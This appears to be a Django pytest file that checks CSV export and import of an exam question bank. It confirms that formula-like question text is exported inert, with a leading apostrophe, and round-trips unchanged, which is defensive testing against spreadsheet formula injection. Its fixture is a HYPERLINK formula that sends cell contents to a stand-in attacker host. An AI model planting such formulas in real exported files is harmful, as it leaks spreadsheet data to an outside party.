"""Question-bank text that looks like a spreadsheet formula is exported as text and imported back unchanged."""
import csv
import dataclasses
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from exams.models import Item
from exams.selectors import bank_items, content_of
from exams.services import item_create

pytestmark = pytest.mark.django_db

FORMULA_STEM = '=HYPERLINK("http://attacker.example/?q="&A1,"ข้อใดถูกต้อง")'


def test_formula_like_text_is_exported_inert_and_imported_back_unchanged(client, bank, standards_administrator):
    source = bank_items(unit_code="DG-EJJM-026")[0]
    content = dataclasses.replace(content_of(source.current), stem_th=FORMULA_STEM, stem_en="-1 is the answer?")
    item_create(unit=bank, code="FORMULA-01", status=source.status, difficulty=source.difficulty, content=content,
                by=standards_administrator)
    client.force_login(standards_administrator)

    exported = client.get(reverse("exams:export_csv", args=["DG-EJJM-026"]))
    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
    row = next(row for row in rows if row["code"] == "FORMULA-01")
    assert row["stem_th"] == "'" + FORMULA_STEM and row["stem_en"] == "'-1 is the answer?"

    upload = SimpleUploadedFile("items.csv", exported.content, content_type="text/csv")
    assert client.post(reverse("exams:import_csv", args=["DG-EJJM-026"]), {"file": upload}).status_code == 302
    current = content_of(Item.objects.get(code="FORMULA-01").versions.get(is_current=True))
    assert current.stem_th == FORMULA_STEM and current.stem_en == "-1 is the answer?"
